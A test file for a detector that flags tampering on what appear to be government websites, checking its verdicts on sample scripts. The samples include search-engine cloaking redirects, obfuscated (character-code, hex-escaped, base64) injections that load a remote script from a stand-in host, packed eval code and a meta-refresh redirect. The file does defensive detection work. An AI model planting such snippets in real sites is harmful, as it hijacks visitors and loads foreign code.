import { expect, test } from "vitest";
import { scriptSignals } from "../../../src/observe/tampering/script-signals.ts";
import { pageOf, shipped } from "../with-lists.ts";

const told = (script: string) =>
  scriptSignals(pageOf(`<script>${script}</script>`), shipped).map(
    ({ kind, confidence }) => `${kind} ${confidence}`,
  );
const codes = Array.from("document.write('<script src=http://a-example.com/x.js>')", (char) =>
  char.charCodeAt(0),
).join(",");
const hex = (text: string): string =>
  Array.from(text, (char) => `\\x${char.charCodeAt(0).toString(16)}`).join("");

test.each([
  [
    "searchers are sent away",
    "if(/baidu|sogou/.test(document.referrer)){location.href='http://a-example.com/'}",
    ["cloaking likely"],
  ],
  [
    "phones are sent to the mobile site",
    "if(/iPhone|Android/.test(navigator.userAgent)){location.href='http://m.example.gov.cn/'}",
    [],
  ],
  ["the referrer is counted", "img.src='//c.example.gov.cn/?r='+document.referrer", []],
  ["everybody is sent to a stranger", "window.location='http://a-example.com/'", ["redirect suspect"]],
  ["everybody is sent to the new site", "location.replace('http://www.new.gov.cn/')", []],
  ["a click leads to a stranger", "function go(){location.href='http://a-example.com/'}", []],
  ["an address in character codes", `eval(String.fromCharCode(${codes}))`, ["foreign-script likely"]],
  ["packed code", "eval(function(p,a,c,k,e,d){return p}('0',1,1,'x'.split('|')))", ["other suspect"]],
  [
    "the true title is kept from a crawler",
    "if(navigator.userAgent.toLocaleLowerCase().indexOf('baidu') == -1){document.title = '青岩县人民政府'}",
    ["cloaking likely"],
  ],
  [
    "spiders are named",
    "if(!navigator.userAgent.match(/baiduspider|sogou|360spider/i)){document.title='青岩县'}",
    ["cloaking likely"],
  ],
  [
    "a title for phones and their browsers",
    "if(/MicroMessenger|baidubrowser|baiduboxapp|SogouMobileBrowser/i.test(navigator.userAgent)){document.title='青岩县'}",
    [],
  ],
  [
    "crawlers are counted by title",
    "if(/baiduspider/i.test(navigator.userAgent)){count(document.title == '' ? '-' : document.title)}",
    [],
  ],
  [
    "names of writers in escapes",
    `window["${hex("document")}"]["${hex("write")}"]('<script src="//js.a-example.com/x.js"><\\/script>')`,
    ["foreign-script likely"],
  ],
  [
    "escapes in a plain writer's markup",
    `document.write("${hex("<div>")}<img src='http://www.b.gov.cn/a.png'>${hex("</div>")}")`,
    [],
  ],
  [
    "an address in base64",
    `var s=document['createElement']('script');s['src']=atob('${btoa("https://js.a-example.com/x.js")}');`,
    ["foreign-script likely"],
  ],
  ["an address of its own in base64", `s.src=atob('${btoa("https://www.a.gov.cn/x.js")}');`, []],
  ["code of a known machine", "var _0xod='jsjiami.com.v7';", ["other suspect"]],
  ["a plain script", "var a = 1;", []],
])("%s", (_, script, expected) => {
  expect(told(script)).toEqual(expected);
});

test.each([
  ["0;url=http://a-example.com/", 1],
  ["0;url=http://www.b.gov.cn/", 0],
  ["0;url=index.html", 0],
])("refresh %s", (content, count) => {
  expect(scriptSignals(pageOf(`<meta http-equiv="Refresh" content="${content}">`), shipped)).toHaveLength(
    count,
  );
});
